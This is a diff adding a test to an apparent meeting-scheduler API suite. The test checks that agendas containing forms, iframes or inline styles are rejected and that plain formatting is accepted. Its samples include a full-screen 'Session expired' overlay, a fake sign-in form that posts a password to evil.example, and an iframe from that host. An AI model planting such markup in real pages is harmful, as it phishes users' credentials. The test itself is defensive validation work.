@@ -132,6 +132,27 @@ describe('one-off meetings', () => {
   });
 });
 
+it('refuses an agenda that carries forms, fields, frames or inline styles, and says why', async () => {
+  const overlays = [
+    '<div style="position:fixed;inset:0">Session expired</div>',
+    '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
+    '<p>Slides</p><iframe src="https://evil.example"></iframe>',
+  ];
+  for (const agenda of overlays) {
+    const res = await call(secretary, 'POST', '/api/meetings', { ...oneOff, agenda });
+    expect(res.statusCode).toBe(400);
+    expect(res.json().details).toEqual([
+      expect.objectContaining({ field: 'agenda', message: expect.stringMatching(/forms.*styles/i) }),
+    ]);
+  }
+  // Plain formatting, links and the word "style" in prose are fine.
+  const ok = await call(secretary, 'POST', '/api/meetings', {
+    ...oneOff,
+    agenda: '<p>Dress style: smart. <a href="https://example.com">Slides</a></p><input-free>',
+  });
+  expect(ok.statusCode).toBe(201);
+});
+
 describe('RSVP', () => {
   it('records the seed values, counts them and lists attendees', async () => {
     const [first] = await list(member);
